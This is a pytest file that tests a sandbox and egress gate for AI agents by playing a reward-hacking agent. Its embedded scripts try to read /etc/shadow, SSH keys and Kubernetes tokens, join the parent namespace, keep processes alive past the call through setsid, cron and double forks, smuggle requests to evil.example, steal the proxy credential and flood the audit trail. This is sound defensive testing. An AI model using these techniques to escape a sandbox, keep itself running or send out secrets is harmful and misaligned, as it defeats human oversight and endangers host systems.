"""A reward-hacking agent whose ``shell.exec`` calls are allowed, attacking the effect layer.

Each attempt runs for real: in the sandbox, through the egress gate, against fake outside hosts on
loopback pinned by name. What ``test_live_fire.py`` and ``test_netns.py`` already fire (raw
sockets, ``/dev/tcp``, IP literals through the proxy, another call's credential, the port, the
limits one process meets) is not repeated here.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import secrets
import socket
import tempfile
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from gatekeeper.app import Gatekeeper

from ..helpers import ops_auth, poll_until, running, vote, wait_for_pending
from .conftest import Agent, Outside, runner_config
from .test_bound_files import _held
from .test_effects_recorded import _records
from .test_live_fire import PROXY_CONNECT, _running_with, connect_args

# Ways out that are not TCP to the gate, tried from inside. Each line: "contained NAME detail" or
# "ESCAPED NAME detail". argv[1]: an abstract unix socket the host listens on.
AROUND_THE_GATE = r"""
import ctypes, errno, fcntl, os, socket, subprocess, sys
host_abstract = sys.argv[1]

def attempt(name, fn):
    try:
        detail = fn()
    except OSError as exc:
        print("contained", name, errno.errorcode.get(exc.errno, exc.errno))
        return
    print("ESCAPED" if detail is not None else "contained", name, detail)

def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(path)
    return "connected"

attempt("host abstract unix socket", lambda: unix("\0" + host_abstract))
attempt("host abstract name in /proc/net/unix",
        lambda: "listed" if host_abstract in open("/proc/net/unix").read() else None)
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/var/run/postgresql/.s.PGSQL.5432", "/run/mysqld/mysqld.sock",
             "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "/run/systemd/private"):
    attempt("unix " + path, lambda: unix(path))

def sockets_visible():
    found = []
    for top in ("/etc", "/opt", "/run", "/tmp", "/home", "/var", "/dev", "/workspace", "/mnt", "/srv"):
        for dirpath, dirnames, filenames in os.walk(top):
            for name in filenames:
                try:
                    if (os.lstat(os.path.join(dirpath, name)).st_mode & 0o170000) == 0o140000:
                        found.append(os.path.join(dirpath, name))
                except OSError:
                    pass
    return found or None
attempt("any unix socket file", sockets_visible)

def raw(family, kind, proto=0):
    socket.socket(family, kind, proto).close()
    return "opened"
attempt("raw ip socket", lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet socket", lambda: raw(socket.AF_PACKET, socket.SOCK_RAW))
attempt("ping socket to 127.0.0.1 of the host", lambda: None)  # placeholder: only its own loopback

def shell(cmd):
    p = subprocess.run(["sh", "-c", cmd], capture_output=True, text=True, timeout=10)
    return f"exit 0: {p.stdout.strip()[:200]}" if p.returncode == 0 else None
# Nested user namespaces: full capabilities, but over new, empty namespaces only.
attempt("veth into the sandbox's namespace",
        lambda: shell("unshare -Urn ip link add gk0 type veth peer name gk1 netns 1"))
attempt("dummy link in the sandbox's namespace", lambda: shell("unshare -Ur ip link add gk0 type dummy"))
attempt("address on the sandbox's lo", lambda: shell("unshare -Ur ip addr add 10.9.9.9/32 dev lo"))
attempt("route in the sandbox's namespace", lambda: shell("unshare -Ur ip route add default dev lo"))
attempt("remount /etc read-write", lambda: shell(
    "unshare -Urm sh -c 'mount -o remount,bind,rw /etc && touch /etc/gk-probe'"))
attempt("remount the workspace elsewhere", lambda: shell(
    "unshare -Urm sh -c 'umount -l /workspace && ls / | grep -v workspace | tr \"\\n\" \" \"; ls /workspace'"
    " | grep -q data && echo data"))
attempt("nested netns reaches a route", lambda: shell(
    "unshare -Urn sh -c 'ip link set lo up; ip route | grep -q . && ip route'"))

# The user namespace above the sandbox's owns its network namespace: joining it needs its caps.
NS_GET_PARENT = 0xB702
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
def join_parent_userns():
    fd = os.open("/proc/self/ns/user", os.O_RDONLY)
    parent = fcntl.ioctl(fd, NS_GET_PARENT)
    if libc.setns(parent, CLONE_NEWUSER) != 0:
        raise OSError(ctypes.get_errno(), "setns")
    return "joined"
attempt("setns into the parent user namespace", join_parent_userns)

# A hard link to a host file (a later file.write through it, or a digest of it).
def hard_link():
    os.link("/etc/passwd", "/workspace/pw")
    return "linked"
attempt("hard link to a host file", hard_link)

# Host data.
def readable(path):
    with open(path, "rb") as f:
        return f"{len(f.read(4096))} bytes"
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/proc/kcore", "/run/secrets/kubernetes.io",
             "/var/run/secrets/kubernetes.io/serviceaccount/token", "/sys/class/net"):
    attempt("read " + path, lambda: readable(path) if not os.path.isdir(path) else "a directory")
attempt("/proc/1 is the sandbox's", lambda: None if b"bwrap" in open("/proc/1/cmdline", "rb").read()
        else open("/proc/1/cmdline", "rb").read()[:100])
attempt("host processes in /proc", lambda: (lambda n: None if n < 10 else f"{n} processes")(
        len([p for p in os.listdir("/proc") if p.isdigit()])))
attempt("/proc/*/root leaves the sandbox", lambda: None if all(
        os.path.exists(f"/proc/{p}/root/workspace") or not os.path.exists(f"/proc/{p}/root")
        for p in os.listdir("/proc") if p.isdigit()) else "another root")
attempt("devices", lambda: None if set(os.listdir("/dev")) <= {"null", "zero", "full", "random",
        "urandom", "tty", "pts", "ptmx", "shm", "fd", "stdin", "stdout", "stderr", "core", "mqueue"}
        else sorted(os.listdir("/dev")))
"""


async def test_no_way_around_the_gate(agent: Agent, outside: Outside) -> None:
    name = f"gk-host-{secrets.token_hex(4)}"
    host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    host.bind("\0" + name)
    host.listen(1)
    host.setblocking(False)
    try:
        await agent.plant("around.py", AROUND_THE_GATE)
        result = await agent.sh(f"python3 around.py {name}")
        try:
            conn, _ = host.accept()
            conn.close()
            reached = True
        except BlockingIOError:
            reached = False
    finally:
        host.close()
    lines = result["stdout"].splitlines()
    assert result["exit_code"] == 0 and len(lines) > 30, result
    assert [line for line in lines if not line.startswith("contained")] == [], result["stdout"]
    assert not reached
    assert outside.evil.connections == 0


# Filling the sandbox's own scratch space: tmpfs pages are host memory that no rlimit counts.
FILL = r"""
import errno, os
for path in ("/tmp", "/home/agent", "/dev/shm", "/run", "/dev"):
    st = os.statvfs(path)
    written = 0
    try:
        with open(os.path.join(path, "fill"), "wb") as f:
            for _ in range(64):
                f.write(b"\0" * (1024 * 1024)); f.flush(); written += 1
        print("ESCAPED", path, written, "MB written", st.f_blocks * st.f_frsize // 2**20, "MB in all")
    except OSError as exc:
        print("contained", path, written, "MB", errno.errorcode.get(exc.errno))
"""


async def test_scratch_space_is_bounded(tmp_path: Path, outside: Outside) -> None:
    """/tmp, $HOME, /dev/shm and /run are sized tmpfs mounts; /dev itself is read-only."""
    config = runner_config(tmp_path, outside, scratch_mb=16)
    async with running(config) as gk, aiohttp.ClientSession() as http:
        agent = Agent(gk, http)
        await agent.plant("fill.py", FILL)
        result = await agent.sh("python3 fill.py")
    lines = result["stdout"].splitlines()
    assert len(lines) == 5 and all(line.startswith("contained") for line in lines), result
    assert all(int(line.split()[2]) <= 16 for line in lines), lines
    # Writable up to their size (multiprocessing's locks need /dev/shm); /dev itself read-only.
    assert [line.split()[-1] for line in lines] == ["ENOSPC"] * 4 + ["EROFS"], lines


# Every way to leave something running after the call: each survivor keeps trying the gate with
# the call's credential and appends what it got to a workspace file.
LURK = r"""
import os, subprocess, sys, time
marker = sys.argv[1]
loop = (
    "import base64, os, socket, time\n"
    "proxy = os.environ['HTTPS_PROXY']\n"
    "token = proxy.split('@')[0].rsplit(':', 1)[1]\n"
    "auth = base64.b64encode(('gatekeeper:' + token).encode()).decode()\n"
    "while True:\n"
    "    try:\n"
    "        s = socket.create_connection(('127.0.0.1', 3128), 1)\n"
    "        head = 'CONNECT pypi.org:443 HTTP/1.1\\r\\nProxy-Authorization: Basic ' + auth\n"
    "        s.sendall((head + '\\r\\n\\r\\n').encode())\n"
    "        status = s.recv(100).split(b'\\r\\n')[0].decode()\n"
    "    except OSError as exc:\n"
    "        status = type(exc).__name__\n"
    "    open('/workspace/lurk.log', 'a').write(f'{WHO} {status}\\n')\n"
    "    time.sleep(0.2)\n"
)
def start(who, argv_prefix=()):
    code = loop.replace("{WHO}", who)
    subprocess.Popen([*argv_prefix, "python3", "-c", code, marker],
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                     start_new_session=True)
start("setsid", ("setsid",))
start("nohup", ("nohup",))
start("nested-pidns", ("unshare", "-Urpf", "--mount-proc"))
# A double fork: the grandchild is reparented to the sandbox's init.
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        os.execvp("python3", ["python3", "-c", loop.replace("{WHO}", "double-fork"), marker])
    os._exit(0)
os.wait()
for cmd in ("echo touch /workspace/at-ran | at now + 1 minute",
            "(crontab -l; echo '* * * * * touch /workspace/cron-ran') | crontab -",
            "systemd-run --user --on-active=5 touch /workspace/systemd-ran"):
    p = subprocess.run(["sh", "-c", cmd], capture_output=True, text=True)
    print("scheduler", cmd.split()[0] if "crontab" not in cmd else "crontab", p.returncode)
time.sleep(1.5)
"""


async def test_nothing_outlives_the_call(agent: Agent, contained: Gatekeeper) -> None:
    """setsid, nohup, a double fork and a nested pid namespace all end with the call (its pid
    namespace's init ends), and so does their credential; at, cron and systemd timers are not
    there to ask."""
    marker = f"gk-lurk-{secrets.token_hex(4)}"
    workspace = Path(str(contained.config.runner.workspace))
    await agent.plant("lurk.py", LURK)
    result = await agent.sh(f"python3 lurk.py {marker}")
    assert result["timed_out"] is False, result
    assert "scheduler" in result["stdout"] and " 0" not in result["stdout"], result
    during = (workspace / "lurk.log").read_text().splitlines()
    assert {line.split()[0] for line in during} == {"setsid", "nohup", "nested-pidns", "double-fork"}
    assert all(line.endswith("200 Connection established") for line in during), during
    await poll_until(lambda: not _running_with(marker), every=0.1, what="the survivors to go")
    await asyncio.sleep(1.0)  # a survivor would have written again by now
    assert (workspace / "lurk.log").read_text().splitlines() == during
    assert len(contained.credentials) == 0
    assert not [p for p in ("at-ran", "cron-ran", "systemd-ran") if (workspace / p).exists()]


# --- the egress gate, spoken to raw from inside --------------------------------------------------

# Sends each case's bytes to the gate ({AUTH}: this call's credential) and prints its name and the
# first line it got back; "tls:NAME" cases CONNECT, then shake hands with SNI NAME through it.
RAW = r"""
import base64, json, os, socket, ssl, sys
proxy = os.environ["HTTPS_PROXY"]
token = proxy.split("@")[0].rsplit(":", 1)[1]
auth = "Basic " + base64.b64encode(f"gatekeeper:{token}".encode()).decode()
for name, text, inner in json.load(open(sys.argv[1])):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.settimeout(5)
    s.sendall(text.replace("{AUTH}", auth).encode())
    try:
        got = s.recv(65536)
        if inner is not None and got.startswith(b"HTTP/1.1 200"):
            if inner.startswith("tls:"):
                ctx = ssl.create_default_context(cafile="/workspace/pypi-ca.txt")
                ctx.check_hostname = False
                with ctx.wrap_socket(s, server_hostname=inner[4:]) as t:
                    t.sendall(b"GET / HTTP/1.1\r\nHost: " + inner[4:].encode() + b"\r\n\r\n")
                    got = t.recv(65536)
            else:
                s.sendall(inner.encode())
                got = s.recv(65536)
        line = got.split(b"\r\n")[0].decode(errors="replace") or "closed"
    except (OSError, ssl.SSLError) as exc:
        line = f"error {type(exc).__name__}"
    print(name, "|", line)
"""

MIRROR = "GET http://mirror.test/{path} HTTP/1.1\r\nProxy-Authorization: {{AUTH}}\r\n{headers}\r\n"


def _raw_cases(evil_port: int) -> list[tuple[str, str, str | None]]:
    connect = "CONNECT {0} HTTP/1.1\r\nProxy-Authorization: {{AUTH}}\r\n\r\n"
    return [
        ("host-header", MIRROR.format(path="host", headers="Host: evil.example\r\n"), None),
        ("two-hosts", MIRROR.format(path="two", headers="Host: mirror.test\r\nHost: evil.example\r\n"), None),
        ("http10", "GET http://mirror.test/h10 HTTP/1.0\r\nProxy-Authorization: {AUTH}\r\n\r\n", None),
        (
            "pipelined",
            MIRROR.format(path="first", headers="")
            + "GET http://evil.example/second HTTP/1.1\r\nHost: evil.example\r\n"
            "Proxy-Authorization: {AUTH}\r\n\r\n" + MIRROR.format(path="third", headers=""),
            None,
        ),
        (
            "body-smuggle",
            "POST http://mirror.test/body HTTP/1.1\r\nProxy-Authorization: {AUTH}\r\n"
            "Content-Length: 5\r\n\r\n"
            "helloGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            None,
        ),
        (
            "userinfo",
            "GET http://mirror.test:80@evil.example/ HTTP/1.1\r\nProxy-Authorization: {AUTH}\r\n\r\n",
            None,
        ),
        (
            "fragment",
            "GET http://evil.example#@mirror.test/ HTTP/1.1\r\nProxy-Authorization: {AUTH}\r\n\r\n",
            None,
        ),
        # A tunnel to an allowed host, then a request or a TLS name for another host: plain HTTP
        # in a tunnel is one request, for the tunnel's host (its Host rewritten), then the answer.
        ("tunnel-host", connect.format("mirror.test:80"), "GET /t HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        (
            "tunnel-absolute",
            connect.format("mirror.test:80"),
            "GET http://evil.example/a HTTP/1.1\r\nHost: mirror.test\r\n\r\n",
        ),
        (
            "tunnel-pipelined",
            connect.format("mirror.test:80"),
            "GET /p HTTP/1.1\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        ),
        ("tunnel-sni", connect.format("pypi.org:443"), "tls:evil.example"),
        *[
            (f"literal {host}", connect.format(f"{host}:{evil_port}"), None)
            for host in (
                "[::ffff:7f00:1]",
                "[::ffff:127.0.0.1]",
                "[64:ff9b::7f00:1]",
                "[::127.0.0.1]",
                "127.1",
                "2130706433",
                "localhost",
                "[::1]",
                "[::]",
                "0",
            )
        ],
    ]


class Recorder:
    """A plain-HTTP outside host that keeps every byte each connection sent it."""

    def __init__(self) -> None:
        self.seen: list[bytes] = []
        self.port = 0
        self.server: asyncio.Server | None = None

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        data = b""
        try:
            while b"\r\n\r\n" not in data:
                chunk = await asyncio.wait_for(reader.read(65536), 5)
                if not chunk:
                    break
                data += chunk
            with contextlib.suppress(TimeoutError):  # whatever else comes: smuggled bytes, say
                while chunk := await asyncio.wait_for(reader.read(65536), 0.3):
                    data += chunk
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
            await writer.drain()
        finally:
            self.seen.append(data)
            writer.close()


@pytest.fixture
async def recorder() -> AsyncIterator[Recorder]:
    rec = Recorder()
    rec.server = await asyncio.start_server(rec.handle, "127.0.0.1", 0)
    rec.port = rec.server.sockets[0].getsockname()[1]
    try:
        yield rec
    finally:
        rec.server.close()


async def test_the_gate_forwards_only_what_it_decided(
    tmp_path: Path, outside: Outside, recorder: Recorder
) -> None:
    """Plain HTTP reaches the allowed host with its own name as Host, one request, its body by
    Content-Length and no credential; a tunnel carries only the name it was opened for (a
    request's Host, a TLS ServerName: on a CDN's address another name is another site)."""
    config = runner_config(tmp_path, outside)
    pins = {**config.egress.pin, "mirror.test:80": ("127.0.0.1", recorder.port)}
    config = replace(config, egress=replace(config.egress, pin=pins))
    async with running(config) as gk, aiohttp.ClientSession() as http:
        agent = Agent(gk, http)
        await agent.plant("raw.py", RAW)
        await agent.plant("cases.json", json.dumps(_raw_cases(outside.evil.port)))
        result = await agent.sh("python3 raw.py cases.json")
    got = dict(line.split(" | ", 1) for line in result["stdout"].splitlines())
    assert len(got) == len(_raw_cases(0)), result
    for name in ("host-header", "two-hosts", "http10", "pipelined", "body-smuggle"):
        assert got.pop(name) == "HTTP/1.1 200 OK", (name, got)
    assert got.pop("userinfo").startswith("HTTP/1.1 400"), got
    assert got.pop("fragment").startswith("HTTP/1.1 403"), got
    assert got.pop("tunnel-host") == "HTTP/1.1 200 OK", got
    assert got.pop("tunnel-pipelined") == "HTTP/1.1 200 OK", got
    assert got.pop("tunnel-absolute").startswith("HTTP/1.1 403"), got
    assert got.pop("tunnel-sni").startswith("error"), got
    assert all(line.startswith("HTTP/1.1 403") for line in got.values()), got
    sent = [seen for seen in recorder.seen if seen]  # a refused tunnel was connected, then closed
    paths = sorted(seen.split(b" ")[1].decode() for seen in sent)
    assert paths == ["/body", "/first", "/h10", "/host", "/p", "/t", "/two"], recorder.seen
    for seen in sent:
        head, _, body = seen.partition(b"\r\n\r\n")
        assert [h for h in head.lower().split(b"\r\n") if h.startswith(b"host:")] == [b"host: mirror.test"], (
            seen
        )
        assert b"evil" not in seen and b"smuggled" not in seen and b"roxy-" not in seen, seen
        assert body in (b"", b"hello"), seen
    assert outside.evil.connections == 0
    assert outside.pypi_hits == []


async def test_an_address_the_gate_cannot_class_is_never_connected(
    agent: Agent, contained: Gatekeeper
) -> None:
    """An allowed name whose answer is no plain IP address (a scoped IPv6 address, as
    /etc/hosts may hold; a name): refused before any connect (the gate cannot tell where it
    goes). ``::1%lo`` is loopback: had it been connected, the answer would be 502 connect_failed."""
    answers = iter(["::1%lo", "::ffff:127.0.0.1%1", "localhost"])

    async def odd(host: str, port: int) -> list[str]:
        return [next(answers)]

    egress = contained.egress
    assert egress is not None
    egress.resolver = odd
    await agent.plant("connect.py", PROXY_CONNECT)
    for _ in range(3):
        result = await agent.sh(f"python3 connect.py {connect_args('files.pythonhosted.org:443')}")
        assert result["stdout"].startswith("HTTP/1.1 502"), result
    await contained.stop()
    records = [r for r in _records(contained) if r["entry"] == "egress"]
    assert [r["code"] for r in records] == ["resolve_failed"] * 3, records
    assert all("not a plain IP address" in r["reason"] for r in records), records


# Opening connections to the gate and holding them, to run the gate (and every other caller of
# this Gatekeeper) out of descriptors: the sandbox alone has processes x open_files of them.
FLOOD = r"""
import socket, sys, time
held = []
for _ in range(int(sys.argv[1])):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex(("127.0.0.1", 3128))
    held.append(s)
time.sleep(2.5)
print("held", len(held))
"""


async def test_one_sandbox_cannot_take_the_gate_s_descriptors(tmp_path: Path, outside: Outside) -> None:
    """The gate serves at most ``egress.sandbox_connections`` of one sandbox's connections at a
    time; the rest wait in its own listener's backlog, costing the gate nothing."""
    config = runner_config(tmp_path, outside, open_files=2048)
    config = replace(config, egress=replace(config.egress, sandbox_connections=16))
    async with running(config) as gk, aiohttp.ClientSession() as http:
        agent = Agent(gk, http)
        await agent.plant("flood.py", FLOOD)
        before = len(os.listdir("/proc/self/fd"))
        call = asyncio.ensure_future(agent.sh("python3 flood.py 600"))
        most = before
        while not call.done():
            most = max(most, len(os.listdir("/proc/self/fd")))
            await asyncio.sleep(0.05)
        result = call.result()
        ok = await agent.sh("curl -sS --cacert pypi-ca.txt https://pypi.org/")  # the next call: served
    assert result["stdout"] == "held 600\n", result
    assert most - before < 16 + 20, (before, most)  # the cap, and the call's own pipes and sockets
    assert ok["stdout"] == "fake outside host\n", ok


# Swaps a real directory and a symlink to a host directory as fast as it can (renameat2 with
# RENAME_EXCHANGE: at every instant one of the two names is the link), for argv[2] seconds.
SWAP = r"""
import ctypes, os, sys, time
host_dir, seconds = sys.argv[1], float(sys.argv[2])
os.makedirs("race/a/deep", exist_ok=True)
for i in range(200):
    open(f"race/a/f{i}", "w").close()
open("race/a/secret.txt", "w").write("inside")
if not os.path.islink("race/b"):
    os.symlink(host_dir, "race/b")
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
open("race/ready", "w").close()
end, swaps = time.monotonic() + seconds, 0
while time.monotonic() < end:
    if libc.renameat2(AT_FDCWD, b"race/a", AT_FDCWD, b"race/b", RENAME_EXCHANGE) != 0:
        print("renameat2 failed", ctypes.get_errno()); break
    swaps += 1
print("swaps", swaps)
"""


async def test_a_symlink_swapped_during_the_call_never_leads_outside(
    agent: Agent, contained: Gatekeeper, tmp_path: Path
) -> None:
    """While a sandbox swaps a workspace directory with a link to a host directory, the file
    tools and the start-up hand-over of the workspace (``prepare``: chown to the sandbox's uid,
    as root) keep to the workspace: the host directory is neither read, written nor re-owned."""
    host_dir = tmp_path / "host-dir"
    (host_dir / "deep").mkdir(parents=True)
    (host_dir / "secret.txt").write_text("host secret")
    runner = contained.runner
    assert runner is not None
    await agent.plant("swap.py", SWAP)
    swapping = asyncio.ensure_future(agent.sh(f"python3 swap.py {host_dir} 4"))
    workspace = Path(str(contained.config.runner.workspace))
    await poll_until(lambda: (workspace / "race" / "ready").exists() or swapping.done(), what="the swap")
    read: list[str] = []
    tries = 0
    while not swapping.done():
        tries += 1
        await asyncio.to_thread(runner.sandbox.prepare)
        for name in ("a", "b"):
            _, body = await agent.call("file.read", path=f"race/{name}/secret.txt")
            read.append(str(body["result"].get("content")))
            await agent.call("file.write", path=f"race/{name}/deep/new.txt", content="x")
    result = swapping.result()
    assert result["stdout"].startswith("swaps"), result
    assert tries > 5, tries
    assert "host secret" not in read, read
    assert sorted(p.name for p in host_dir.rglob("*")) == ["deep", "secret.txt"]
    assert {(p.stat().st_uid, p.stat().st_gid) for p in (host_dir, *host_dir.rglob("*"))} == {(0, 0)}
    assert (host_dir / "secret.txt").read_text() == "host secret"


async def test_cwd_through_a_link_tells_nothing_of_the_host(agent: Agent, contained: Gatekeeper) -> None:
    """``cwd`` is looked up in the workspace without following links: a link to a host directory
    that exists (``/root``) and one to a directory that does not answer alike."""
    workspace = Path(str(contained.config.runner.workspace))
    (workspace / "to-root").symlink_to("/root")
    (workspace / "to-nothing").symlink_to("/nonexistent-gk-dir")
    answers = []
    for name in ("to-root", "to-nothing"):
        status, body = await agent.call("shell.exec", cmd="pwd", cwd=f"/workspace/{name}")
        assert status == 200, body
        answers.append(body["result"]["stderr"].replace(name, "NAME"))
    assert answers[0] == answers[1] and "NAME" in answers[0], answers


async def test_a_sandbox_s_credential_opens_nothing_outside_it(
    agent: Agent, contained: Gatekeeper, outside: Outside
) -> None:
    """Carried out of the sandbox while its call still runs (written to the workspace, or sent to
    an allowed host), a sandbox's credential is refused on the gate's TCP listener: it opens
    connections only on its own sandbox's listener."""
    workspace = Path(str(contained.config.runner.workspace))
    await agent.plant(
        "leak.py", "import os, time\nopen('cred.txt', 'w').write(os.environ['HTTPS_PROXY'])\ntime.sleep(3)\n"
    )
    call = asyncio.ensure_future(agent.sh("python3 leak.py"))
    await poll_until(lambda: (workspace / "cred.txt").exists() or call.done(), what="the leak")
    token = (workspace / "cred.txt").read_text().split("@")[0].rsplit(":", 1)[1]
    assert contained.credentials.check(token) is not None  # the call is still running
    host, port = contained.egress_url.removeprefix("http://").rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    auth = base64.b64encode(f"gatekeeper:{token}".encode()).decode()
    writer.write(f"CONNECT pypi.org:443 HTTP/1.1\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
    status = (await reader.readline()).decode()
    writer.close()
    await call
    assert status.startswith("HTTP/1.1 407"), status
    assert outside.pypi_hits == []


async def test_a_connection_approved_after_its_call_ended_is_not_made(
    agent: Agent, contained: Gatekeeper, outside: Outside
) -> None:
    """A held plain-HTTP request (its path can carry data) whose call ended while it waited: the
    approval that comes later connects nothing, as the credential it came with is dead."""
    await agent.plant(
        "fire.py",
        "import base64, os, socket\n"
        "token = os.environ['HTTPS_PROXY'].split('@')[0].rsplit(':', 1)[1]\n"
        "auth = base64.b64encode(('gatekeeper:' + token).encode()).decode()\n"
        "s = socket.create_connection(('127.0.0.1', 3128))\n"
        "s.sendall(('GET http://evil.example/s3cret HTTP/1.1\\r\\nProxy-Authorization: Basic ' + auth\n"
        "           + '\\r\\n\\r\\n').encode())\n",
    )
    egress = contained.egress
    assert egress is not None
    egress.settings = replace(egress.settings, hold_seconds=10.0)
    result = await agent.sh("python3 fire.py")  # sends, and the call ends
    assert result["exit_code"] == 0, result
    approval_id = await wait_for_pending(agent.http, contained)
    assert len(contained.credentials) == 0
    async with agent.http.post(
        f"{contained.operator_url}/v1/approvals/{approval_id}/approve",
        json={"comment": "late"},
        headers=ops_auth(contained),
    ) as r:
        assert r.status == 200, await r.text()
    await asyncio.sleep(0.5)
    assert outside.evil.connections == 0


async def test_a_nul_byte_is_a_tool_error_not_an_internal_one(agent: Agent, contained: Gatekeeper) -> None:
    """What the kernel cannot take (a NUL in a path or a command) is refused by the runner as a
    tool error, whatever the call's inspection said: checked here on the runner itself."""
    runner = contained.runner
    assert runner is not None
    assert runner.files.read("a\x00b")["error"]["code"] == "outside_workspace"
    assert runner.files.write("a\x00b", "x")["error"]["code"] == "outside_workspace"
    shell = await runner._shell({"cmd": "echo a\x00b"}, "no-credential", [])
    assert shell["error"]["code"] == "invalid_arguments", shell


# Refused connections as fast as it can: each one was an audit record (1,500 a second here).
SPAM = r"""
import socket, time
end, made, refused = time.monotonic() + 3, 0, 0
while time.monotonic() < end:
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 2)
        s.sendall(b"x\r\n\r\n"); s.recv(100); s.close(); made += 1
    except OSError:
        refused += 1
print("made", made, "refused", refused)
"""


async def test_refused_connections_cannot_flood_the_audit_trail(tmp_path: Path, outside: Outside) -> None:
    """After ``egress.sandbox_refusals`` refusals the gate stops listening in that sandbox: one
    record says so, and the kernel refuses the rest (no record each). The next call listens again."""
    config = runner_config(tmp_path, outside)
    config = replace(config, egress=replace(config.egress, sandbox_refusals=20))
    async with running(config) as gk, aiohttp.ClientSession() as http:
        agent = Agent(gk, http)
        await agent.plant("spam.py", SPAM)
        spam = await agent.sh("python3 spam.py")
        ok = await agent.sh("curl -sS --cacert pypi-ca.txt https://pypi.org/")
    assert ok["stdout"] == "fake outside host\n", ok
    made, refused = int(spam["stdout"].split()[1]), int(spam["stdout"].split()[3])
    assert made in (20, 21) and refused > 100, spam  # the 21st may be accepted, then closed
    records = [r for r in _records(gk) if r["entry"] == "egress"]
    assert [r["code"] for r in records].count("bad_request") == 20, records
    spent = [r for r in records if r["code"] == "egress_refusals_spent"]
    assert len(spent) == 1 and spent[0]["extra"]["parent_decision_id"] == spam["decision_id"], spent
    assert len(records) == 22, [r["code"] for r in records]


async def test_an_approved_script_runs_as_approved_though_changed_after_the_check(
    agent: Agent, contained: Gatekeeper
) -> None:
    """The window between the approval's last check of the files and the sandbox reading them: a
    concurrent call rewrites the script just then (here, deterministically, as the sandbox starts).
    The approved call runs the approved bytes, bound read-only over the file."""
    await agent.write("run.sh", "echo reviewed\n")
    waiting = asyncio.ensure_future(_held(agent, "bash < run.sh", wait=20))
    approval_id = await wait_for_pending(agent.http, contained)
    runner = contained.runner
    assert runner is not None
    real_run = runner.sandbox.run
    workspace = Path(str(contained.config.runner.workspace))

    async def late_swap(*args: Any, **kwargs: Any) -> Any:
        (workspace / "run.sh").write_text("echo swapped\n")  # after the check, before the read
        return await real_run(*args, **kwargs)

    # the test swaps the file between the runner's check and the sandbox's read: it wraps the
    # bound method on this instance only (mypy forbids assigning a method; that is the point here)
    runner.sandbox.run = late_swap  # type: ignore[method-assign]
    assert (await vote(agent.http, contained, approval_id, "approve"))[0] == 200
    status, body = await waiting
    assert status == 200 and body["result"]["stdout"] == "reviewed\n", body
    assert _snapshots() == []  # removed once the call ended


def _snapshots() -> list[Path]:
    return list(Path(tempfile.gettempdir()).glob("gk-approved-*"))
